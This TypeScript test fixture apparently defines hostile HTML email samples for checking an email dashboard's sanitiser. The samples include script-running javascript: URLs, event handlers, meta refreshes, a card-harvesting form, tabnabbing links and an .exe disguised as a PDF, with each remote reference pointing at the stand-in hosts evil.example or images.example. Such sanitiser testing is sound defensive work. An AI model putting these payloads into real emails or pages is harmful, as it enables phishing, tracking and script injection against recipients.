import type { HostileFamily } from './hostile-mail-corpus';

// The corpus' vectors that try to load, send or navigate: document-level elements (<base>, <meta>, <link>),
// CSS that reaches for the network, forms, frames and plugins, remote images and media, and links that would
// open in the dashboard's tab or keep a handle on it. Images are on images.example ("Show images" may load
// them); every other remote reference points at evil.example, which nothing may reach.

const IMG = 'http://images.example';
const EVIL = 'http://evil.example';

const documentLevel: HostileFamily = {
  title: 'Document-level elements',
  cases: [
    { name: 'base-href', head: () => `<base href="${EVIL}/base/">`, body: () => `<a href="relative-link">Relative link</a><img src="relative.png" alt="">` },
    { name: 'base-target-top', head: () => '<base target="_top">' },
    { name: 'base-href-javascript', body: (js) => `<base href="javascript:${js}//">` },
    { name: 'meta-refresh', head: () => `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">` },
    { name: 'meta-refresh-javascript', body: (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">` },
    { name: 'meta-refresh-data', body: (js) => `<meta http-equiv="refresh" content="1;url=data:text/html,<script>${js}</script>">` },
    { name: 'meta-set-cookie', head: () => '<meta http-equiv="Set-Cookie" content="pwned=1; path=/">' },
    { name: 'meta-csp-loosened', head: () => `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' 'unsafe-eval'">` },
    { name: 'meta-referrer', head: () => '<meta name="referrer" content="unsafe-url"><meta http-equiv="x-dns-prefetch-control" content="on">' },
    { name: 'title', head: () => '<title>pwned</title>' },
    {
      name: 'link-rels',
      head: () =>
        `<link rel="stylesheet" href="${EVIL}/sheet.css"><link rel="prefetch" href="${EVIL}/prefetch"><link rel="preload" as="image" href="${EVIL}/preload.png">` +
        `<link rel="dns-prefetch" href="//dns.evil.example"><link rel="preconnect" href="${EVIL}"><link rel="modulepreload" href="${EVIL}/module.js">` +
        `<link rel="icon" href="${EVIL}/favicon.ico"><link rel="manifest" href="${EVIL}/manifest.json">`,
    },
    { name: 'link-in-body', body: (js) => `<link rel="stylesheet" href="${EVIL}/body-sheet.css" onload="${js}"><link rel="stylesheet" href="data:text/css,p{background:url(${EVIL}/data-sheet.png)}">` },
  ],
};

const css: HostileFamily = {
  title: 'CSS that loads',
  imagesAfterShowImages: [`${IMG}/css-background.png`],
  cases: [
    { name: 'css-import', head: () => `<style>@import url(${EVIL}/import.css);@import '${EVIL}/import-string.css';@\\69mport url(${EVIL}/import-escaped.css);</style>` },
    { name: 'css-background-url', body: () => `<div style="background:url(${IMG}/css-background.png);min-height:20px">Background block</div>` },
    { name: 'css-url-variants', body: () => `<div style="background-image:url( '//images.example/protocol-relative.png' ); border-image:url(${IMG}/border.png) 30">URL variants block</div>` },
    { name: 'css-image-set', body: () => `<div style="background-image:image-set('${IMG}/image-set.png' 1x)">Image set block</div><div style="background-image:image-set(url(${IMG}/image-set-url.png) 1x)">Image set url block</div>` },
    { name: 'css-webkit-image-set', body: () => `<div style="background-image:-webkit-image-set(url(${IMG}/webkit-set.png) 1x)">Webkit set block</div><div style="background-image:-webkit-image-set('${IMG}/webkit-set-string.png' 1x)">Webkit string block</div>` },
    { name: 'css-var-image-set', body: () => `<div style="--hostile:'${IMG}/var-string.png';background-image:image-set(var(--hostile) 1x)">Variable block</div>` },
    { name: 'css-cursor', body: () => `<div style="cursor:url(${IMG}/cursor.png),auto">Cursor block</div>` },
    { name: 'css-font-face', head: () => `<style>@font-face{font-family:hostile;src:url(${EVIL}/font.woff2) format('woff2')}.hostile-font{font-family:hostile,sans-serif}</style>`, body: () => '<p class="hostile-font">Font text</p>' },
    { name: 'css-list-style-image', body: () => `<ul style="list-style-image:url(${IMG}/list.png)"><li>List item</li></ul>` },
    { name: 'css-content-url', head: () => `<style>.hostile-content::before{content:url(${IMG}/content.png)}</style>`, body: () => '<p class="hostile-content">Content text</p>' },
    { name: 'css-mask-shape', body: () => `<div style="mask-image:url(${IMG}/mask.png);-webkit-mask-box-image:url(${IMG}/mask-box.png);shape-outside:url(${IMG}/shape.png)">Mask block</div>` },
    { name: 'css-svg-references', body: () => `<div style="filter:url(${EVIL}/filter.svg#f)">Filter block</div><div style="clip-path:url(${EVIL}/clip.svg#c)">Clip block</div><div style="mask:url(${EVIL}/mask.svg#m)">Mask reference block</div>` },
    { name: 'css-legacy', body: (js) => `<div style="behavior:url(${EVIL}/b.htc);-moz-binding:url(${EVIL}/b.xml#x);width:expression(${js})">Legacy block</div>` },
    { name: 'css-url-javascript', body: (js) => `<div style="background:url(javascript:${js});background:url('java\\73 cript:${js}')">Script URL block</div>` },
    { name: 'css-escaped-url', body: () => `<div style="background:u\\72l(${EVIL}/escaped.png);background-image:&#x75;rl(${IMG}/entity-url.png)">Escaped block</div>` },
    { name: 'css-at-rules', head: () => `<style>@charset "utf-8";@namespace url(${EVIL}/ns);@media all{.hostile-media{background:url(${IMG}/media.png)}}@supports (display:block){.hostile-media{border-image:url(${IMG}/supports.png) 1}}</style>`, body: () => '<p class="hostile-media">Media text</p>' },
    { name: 'css-relative-url', body: () => '<div style="background:url(/api/session)">Relative background block</div>' },
  ],
};

const forms: HostileFamily = {
  title: 'Forms',
  cases: [
    { name: 'form-post', body: () => `<form action="${EVIL}/form" method="post"><input name="card" value="4111"><button>Pay now</button></form>` },
    { name: 'form-action-javascript', body: (js) => `<form action="javascript:${js}"><input type="submit" value="Submit form"></form>` },
    { name: 'button-formaction', body: (js) => `<form><button formaction="${EVIL}/formaction">Formaction button</button><button formaction="javascript:${js}">Script formaction</button><input type="submit" formaction="javascript:${js}" value="Input formaction"></form>` },
    { name: 'form-target-top', body: () => `<form action="${EVIL}/top" target="_top"><button>Top form</button></form>` },
    { name: 'button-form-attribute', body: () => `<form id="outer" action="${EVIL}/outer"></form><button form="outer">Outside button</button>` },
    { name: 'isindex', body: () => `<isindex action="${EVIL}/isindex" prompt="Search">` },
    { name: 'form-controls-autofocus', body: (js) => `<select autofocus onfocus="${js}"><option>Option</option></select><keygen autofocus onfocus="${js}"><textarea autofocus onfocus="${js}"><script>${js}</script></textarea>` },
    { name: 'password-autofill', body: () => '<form><input type="email" name="email" autocomplete="username"><input type="password" name="password" autocomplete="current-password"></form>' },
    { name: 'dialog-form', body: () => '<dialog open><form method="dialog"><button>Close dialog</button></form></dialog>' },
  ],
};

const framesAndPlugins: HostileFamily = {
  title: 'Frames and plugins',
  cases: [
    { name: 'iframe-remote', body: (js) => `<iframe src="${EVIL}/frame" onload="${js}"></iframe>` },
    { name: 'iframe-same-origin', body: () => '<iframe src="/api/session"></iframe><iframe src="/"></iframe>' },
    { name: 'iframe-srcdoc', body: (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>` },
    { name: 'iframe-javascript', body: (js) => `<iframe src="javascript:${js}"></iframe>` },
    { name: 'frame', body: () => `<frame src="${EVIL}/frame-element"><frameset><frame src="${EVIL}/frameset"></frameset>` },
    { name: 'object', body: (js) => `<object data="${EVIL}/object.swf" type="application/x-shockwave-flash" onerror="${js}"><param name="movie" value="${EVIL}/movie.swf"></object><object data="${EVIL}/page.html" type="text/html"></object><object data="javascript:${js}"></object>` },
    { name: 'embed', body: (js) => `<embed src="${EVIL}/embed.swf" type="application/x-shockwave-flash"><embed src="${EVIL}/embed.svg" type="image/svg+xml"><embed src="javascript:${js}">` },
    { name: 'applet', body: () => `<applet code="Evil.class" codebase="${EVIL}/"></applet>` },
    { name: 'portal', body: () => `<portal src="${EVIL}/portal"></portal><fencedframe src="${EVIL}/fenced"></fencedframe>` },
  ],
};

const remoteImagesAndMedia: HostileFamily = {
  title: 'Remote images and media',
  imagesAfterShowImages: [`${IMG}/img.png`, `${IMG}/table-background.png`],
  cases: [
    { name: 'img-remote', body: () => `<img src="${IMG}/img.png" width="24" height="24" alt="Remote image"><img src="${IMG}/pixel.gif" width="1" height="1" alt="">` },
    // Fires once "Show images" has let the image fail (no network), if its handlers survived.
    { name: 'img-remote-handlers', body: (js) => `<img src="${IMG}/broken.png" onerror="${js}" onload="${js}" width="16" height="16" alt="Broken image">` },
    { name: 'img-url-variants', body: () => `<img src="//images.example/protocol-relative.png" alt=""><img src="  ${IMG}/leading-space.png" alt=""><image src="${IMG}/image-tag.png">` },
    { name: 'img-srcset', body: () => `<img srcset="${IMG}/srcset.png 1x, ${IMG}/srcset-2x.png 2x" alt="">` },
    { name: 'picture-source', body: () => `<picture><source srcset="${IMG}/picture-source.png" media="(min-width:1px)"><img src="${IMG}/picture-img.png" alt=""></picture>` },
    { name: 'img-legacy-attributes', body: () => `<img lowsrc="${IMG}/lowsrc.png" dynsrc="${EVIL}/dynsrc.avi" src="${IMG}/with-lowsrc.png" referrerpolicy="unsafe-url" alt="">` },
    { name: 'video-poster', body: () => `<video poster="${IMG}/poster.png" src="${EVIL}/video.mp4" autoplay muted></video>` },
    { name: 'video-source-track', body: () => `<video autoplay muted><source src="${EVIL}/source.mp4" type="video/mp4"><track kind="captions" src="${EVIL}/captions.vtt" default></video>` },
    { name: 'audio', body: () => `<audio src="${EVIL}/audio.mp3" autoplay></audio><bgsound src="${EVIL}/bgsound.mid">` },
    { name: 'input-image', body: () => `<input type="image" src="${IMG}/input-image.png" alt="Input image">` },
    { name: 'table-background', body: () => `<table background="${IMG}/table-background.png"><tr><td background="${IMG}/td-background.png">Cell with background</td></tr></table>` },
    { name: 'body-background', bodyAttributes: () => `background="${IMG}/body-background.png"` },
  ],
};

const linksAndNavigation: HostileFamily = {
  title: 'Links and navigation',
  cases: [
    { name: 'link-target-top', body: () => '<a href="https://shop.example/top" target="_top">Top link</a> <a href="https://shop.example/parent" target="_parent">Parent link</a>' },
    { name: 'link-target-named', body: () => '<a href="https://shop.example/named" target="dashboard">Named link</a> <a href="https://shop.example/self" target="_self">Self link</a>' },
    { name: 'link-rel-opener', body: () => '<a href="https://evil.example/opener" target="_blank" rel="opener">Opener link</a> <a href="https://evil.example/tabnab" target="_blank">Tabnabbing link</a>' },
    { name: 'link-ping', body: () => `<a href="https://shop.example/ping" ping="${EVIL}/ping">Ping link</a>` },
    { name: 'area-target-top', body: () => '<map name="nav-map"><area shape="rect" coords="0,0,10,10" href="https://shop.example/area" target="_top" alt="Area"></map>' },
    { name: 'link-relative', body: () => '<a href="/api/session">Relative link</a> <a href="//evil.example/protocol-relative">Protocol-relative link</a>' },
    { name: 'link-download', body: () => '<a href="https://evil.example/invoice.exe" download="invoice.pdf">Download link</a>' },
    { name: 'link-mailto', body: () => '<a href="mailto:help@shop.example">Mail link</a> <a href="tel:+15550100">Phone link</a>' },
  ],
};

// The two with remote images last, so no image "Show images" asked for can still be on its way while an email
// without any is checked.
export const loadFamilies: HostileFamily[] = [documentLevel, forms, framesAndPlugins, linksAndNavigation, css, remoteImagesAndMedia];
